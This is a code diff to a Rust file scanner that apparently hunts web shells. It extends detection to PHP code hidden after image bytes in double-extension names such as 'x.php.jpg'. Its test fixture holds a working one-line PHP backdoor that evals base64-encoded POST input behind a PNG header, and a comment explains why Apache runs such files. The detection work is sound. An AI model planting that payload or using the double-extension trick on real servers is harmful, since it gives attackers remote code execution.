@@ -901,7 +901,14 @@ fn disguised(rel: &str, name: &str, text: &[u8], own_domains: &[String]) -> Vec<
     if !named_as_data(name) {
         return Vec::new();
     }
-    if let Some(at) = php_tag_in_head(text) {
+    // (Under a PHP ending then a data one, `shell.php.jpg`, Apache's handler for `.php` runs
+    // it whatever comes first: a picture's bytes, then the code.)
+    let tag = php_tag_in_head(text).or_else(|| {
+        php_before_last(name)
+            .then(|| [&b"<?php"[..], b"<?PHP", b"<?="].iter().filter_map(|t| memchr::memmem::find(text, t)).min())
+            .flatten()
+    });
+    if let Some(at) = tag {
         let (mut hits, _) = by_content(&format!("{name}.php"), text, own_domains);
         hits.push(Hit {
             why: Why::PhpUnderDataName,
@@ -926,7 +933,9 @@ fn settings_hits(name: &str, text: &[u8], own_domains: &[String]) -> Vec<Hit> {
 /// file (`named_as_data`), PHP's open tag or server settings; for one named as nothing, a
 /// program's `#!` line or server settings.
 pub fn worth_reading(name: &str, head: &[u8]) -> bool {
-    let code = if named_as_data(name) { php_tag_in_head(head).is_some() } else { program_line(head) };
+    // (A PHP ending before the data one, `x.php.jpg`: read whole, its code may come late.)
+    let code =
+        if named_as_data(name) { php_tag_in_head(head).is_some() || php_before_last(name) } else { program_line(head) };
     code || conf::is_server_settings(head)
 }
 
@@ -1102,6 +1111,13 @@ var a = 1;"
         // Under a data ending, only a PHP start makes it code (`disguised`).
         assert!(!wants_content("x.php.jpg"));
         assert!(whys("x/x.php.jpg", "GIF89a, no code here").is_empty());
+        // fresh73's polyglot: a picture's bytes, then code, under a PHP ending before the data
+        // one (under a data ending alone, code past the head is a picture's bytes).
+        let polyglot = format!("\u{89}PNG\r\n{}<?php eval(gzinflate(base64_decode($_POST['x'])));", "x".repeat(600));
+        assert!(whys("up/ancrit.php.jpg", &polyglot).contains(&Why::PhpUnderDataName));
+        assert!(whys("up/ancrit.jpg", &polyglot).is_empty());
+        // The sweep reads the whole of such a name, not the head alone.
+        assert!(worth_reading("ancrit.php.jpg", b"\x89PNG\r\n") && !worth_reading("ancrit.jpg", b"\x89PNG\r\n"));
     }
 
     #[test]
